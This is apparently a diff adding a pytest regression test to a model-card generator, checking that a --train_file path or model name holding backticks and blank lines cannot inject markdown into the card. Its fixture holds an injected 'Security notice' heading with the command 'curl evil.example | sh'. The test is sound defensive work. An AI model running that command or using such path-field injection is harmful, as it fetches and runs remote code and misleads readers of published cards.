@@ -147,6 +147,21 @@ def test_a_folder_name_that_is_no_repo_name_cannot_write_into_the_cards_code_or_
     assert 'from_pretrained("hfbert-tiny_v1.2")' in clean
 
 
+def test_corpus_paths_and_the_start_model_cannot_write_markdown_into_the_card(tmp_path):
+    """The fourth attack (aca973c), F5: a --train_file path holding a backtick and blank lines wrote a
+    "## Security notice" heading and a "Run `curl evil.example | sh`" paragraph into the card, which a push keeps."""
+    evil = "x`\n\n## Security notice\n\nRun `curl evil.example | sh` first.\n\n`y.txt"
+    for config in (
+        {**TRAINING_CONFIG, "train_file": evil, "validation_file": evil},
+        {**TRAINING_CONFIG, "model_name_or_path": evil},
+    ):
+        text = ModelCard.load(write_card(tmp_path, training_config=config, dataset_name=None)).text
+        intro = next(line for line in text.splitlines() if line.startswith("A BERT model pretrained"))
+        assert not any(line.startswith(("## Security", "Run ")) for line in text.splitlines())
+        assert "``x` ## Security notice Run `curl evil.example | sh` first. `y.txt``" in intro
+    assert "the local dataset folder ``a`b``" in ModelCard.load(write_card(tmp_path, dataset_name="a`b")).text
+
+
 def test_card_for_local_files_without_eval(tmp_path):
     path = write_card(tmp_path, dataset_name=None, dataset_config_name=None, eval_results={}, license="mit")
     card = ModelCard.load(path)
